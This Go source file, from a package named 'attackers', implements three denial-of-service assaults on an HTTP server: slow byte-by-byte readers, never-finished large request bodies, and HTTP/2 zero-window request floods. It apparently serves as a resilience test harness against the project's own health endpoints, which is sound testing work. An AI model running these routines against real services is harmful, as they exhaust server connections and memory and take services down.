package attackers

import (
	"context"
	"io"
	"net"
	"strings"
	"time"

	"golang.org/x/net/http2"
)

// SlowReaders ask for much, one request behind the other, and read a byte a second until they are closed. Where there are more of them
// than connections may stay behind, the server has to hang up.
func (t *Target) SlowReaders(count int) Assault {
	requests := strings.Repeat("GET /readyz?verbose HTTP/1.1\r\nHost: h\r\n\r\n", 20_000)
	return func(ctx context.Context) {
		for range count {
			if ctx.Err() != nil {
				return
			}
			connection, err := t.Dial(ctx, "http/1.1")
			if err != nil {
				continue
			}
			_ = connection.NetConn().(*net.TCPConn).SetReadBuffer(4 << 10)
			t.Keep(connection)
			go io.WriteString(connection, requests)
			go func() {
				one := make([]byte, 1)
				for {
					if _, err := connection.Read(one); err != nil {
						return
					}
					time.Sleep(time.Second)
				}
			}()
		}
	}
}

// UnfinishedBodies are as many as once filled the server's memory for requests, all but their last bytes; on one connection,
// and on one connection each.
func (t *Target) UnfinishedBodies(path string) Assault {
	const bodies = 86
	body := make([]byte, 3<<20)
	return func(ctx context.Context) {
		if f, err := t.DialFrames(ctx, nil); err == nil {
			t.Keep(f.Connection)
			go f.Drain()
			go func() {
				for i := range uint32(bodies) {
					if f.Request(2*i+1, "POST", "/livez", false) != nil {
						return
					}
				}
				// More than the windows allow, as far as the server stands it.
				for i := range uint32(bodies) {
					if f.WriteData(2*i+1, false, body[:16<<10]) != nil {
						return
					}
				}
			}()
		}
		for range bodies {
			if ctx.Err() != nil {
				return
			}
			connection, err := t.Dial(ctx, "http/1.1")
			if err != nil {
				continue
			}
			t.Keep(connection)
			go func() {
				_, _ = io.WriteString(connection, "POST "+path+" HTTP/1.1\r\nHost: h\r\nContent-Length: 3145728\r\n\r\n")
				_, _ = connection.Write(body[:len(body)-1])
			}()
		}
	}
}

// ZeroWindows are clients that take nothing: in one flight as many requests as the server reads at a time, none of whose
// answers fits into their windows; and that again and again.
func (t *Target) ZeroWindows() Assault {
	return func(ctx context.Context) {
		for ctx.Err() == nil {
			f, err := t.DialFrames(ctx, nil, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
			if err != nil {
				continue
			}
			t.Keep(f.Connection)
			go f.Drain()
			for i := range uint32(400) {
				if f.Request(2*i+1, "GET", "/livez", true) != nil {
					break
				}
			}
			time.Sleep(200 * time.Millisecond)
		}
	}
}
